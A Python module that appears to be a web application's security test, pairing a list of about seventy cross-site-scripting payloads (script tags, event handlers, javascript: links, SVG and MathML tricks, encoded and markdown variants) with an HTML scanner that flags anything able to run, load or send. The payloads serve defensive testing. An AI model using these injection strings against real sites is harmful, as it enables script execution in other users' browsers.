"""Texts that try to run, and a look at whether one of them could."""

import re
from html.parser import HTMLParser

MARKER = "pwn"
CORPUS: tuple[str, ...] = (
    "<script>pwn()</script>",
    "<ScRiPt src=//pwn.example/x.js></sCrIpT>",
    "<script/src=data:,pwn()>",
    "</script><script>pwn()</script>",
    "</textarea><script>pwn()</script>",
    "</title><script>pwn()</script>",
    "</style><script>pwn()</script>",
    "--><script>pwn()</script><!--",
    "<![CDATA[<script>pwn()</script>]]>",
    "<img src=x onerror=pwn()>",
    "<img src=x oNeRrOr=pwn() //",
    "<img/src=x/onerror=pwn()>",
    '"><img src=x onerror=pwn()>',
    "'><img src=x onerror=pwn()>",
    "<img src='x' onerror='pwn()'",
    "<image href=x onerror=pwn()>",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:pwn()'><text x=20 y=20>pwn</text></a></svg>",
    "<svg><style><img src=x onerror=pwn()></style></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn()>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
    "<math href='javascript:pwn()'>pwn</math>",
    "<iframe src='javascript:pwn()'></iframe>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<object data='javascript:pwn()'></object>",
    "<embed src='data:text/html,<script>pwn()</script>'>",
    "<base href='https://pwn.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<link rel=stylesheet href='https://pwn.example/x.css'>",
    "<style>@import 'https://pwn.example/x.css';</style>",
    "<div style='background:url(javascript:pwn())'>pwn</div>",
    "<form action='https://pwn.example/'><input name=password><button>pwn</button></form>",
    "<button formaction='javascript:pwn()'>pwn</button>",
    "<input autofocus onfocus=pwn()>",
    "<select autofocus onfocus=pwn()>",
    "<textarea autofocus onfocus=pwn()>",
    "<details open ontoggle=pwn()>",
    "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn()>",
    "<marquee onstart=pwn()>",
    "<body onload=pwn()>",
    "<a href='javascript:pwn()'>pwn</a>",
    "<a href='jav&#x09;ascript:pwn()'>pwn</a>",
    "<a href='&#106;avascript:pwn()'>pwn</a>",
    "<template><script>pwn()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<p id=csrf_token name=main>pwn</p>",
    "[pwn](javascript:pwn())",
    "[pwn](JaVaScRiPt:pwn())",
    "[pwn](data:text/html;base64,cHdu)",
    "[pwn](vbscript:pwn)",
    "[pwn](//pwn.example/x)",
    "![pwn](https://pwn.example/x.png)",
    "<javascript:pwn()>",
    '[pwn](https://example.org/"onmouseover="pwn())',
    '[pwn]: javascript:pwn() "x"\n\n[pwn]',
    "`<script>pwn()</script>`",
    "https://example.org/<script>pwn()</script>",
    '" onmouseover="pwn()" x="',
    "' onmouseover='pwn()' x='",
    "` onmouseover=pwn() x=`",
    "{{ pwn }}{{ 7*7 }}{% raw %}pwn",
    "%3Cscript%3Epwn()%3C/script%3E",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&#60;script&#62;pwn()&#60;/script&#62;",
    "\u003cscript\u003epwn()\u003c/script\u003e",
    "\uff1cscript\uff1epwn()\uff1c/script\uff1e",
    "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
    "<mark><script>pwn()</script></mark>",
)
_FOREIGN = {
    *("iframe", "object", "embed", "applet", "base", "frame", "frameset", "math", "style", "video", "audio", "source"),
    *(
        "marquee",
        "template",
        "noscript",
        "image",
        "animate",
        "set",
        "foreignobject",
        "xmp",
        "plaintext",
        "img",
        "mglyph",
    ),
}
"""Elements that no page of ours has."""
_MAY_TELL = {"value", "href", "title", "aria-label", "name", "content", "placeholder", "datetime", "download"}
_ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset", "ping"}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):", re.IGNORECASE)


class _Scanner(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        shown = f"<{tag} {given}>"
        local = given.get("src", "").startswith("/static/")
        if tag in _FOREIGN or (tag == "script" and not local) or "http-equiv" in given:
            self.found.append(shown)
        for name, value in given.items():
            if name.startswith("on") or name in ("style", "srcdoc", "is", "autofocus"):
                self.found.append(shown)
            if MARKER in value and name not in _MAY_TELL:
                self.found.append(shown)
            if name in _ADDRESSES and not _harmless(tag, given, value):
                self.found.append(shown)


def _harmless(tag: str, given: dict[str, str], value: str) -> bool:
    """An address of ours, or a link of a member's text that says so and takes nothing along."""
    plain = re.sub(r"[\x00-\x20]+", "", value)
    scheme = _SCHEME.match(plain)
    if scheme is None and not plain.startswith(("//", "/\\", "\\")):
        return True
    if tag != "a" or scheme is None:
        return False
    if scheme[1].lower() in ("mailto", "tel"):
        return True
    return scheme[1].lower() in ("http", "https") and "noopener" in given.get("rel", "")


def running(html: str) -> list[str]:
    """Everything in a page that could run, load or send, or that a text of the corpus made."""
    scanner = _Scanner()
    scanner.feed(html)
    return scanner.found
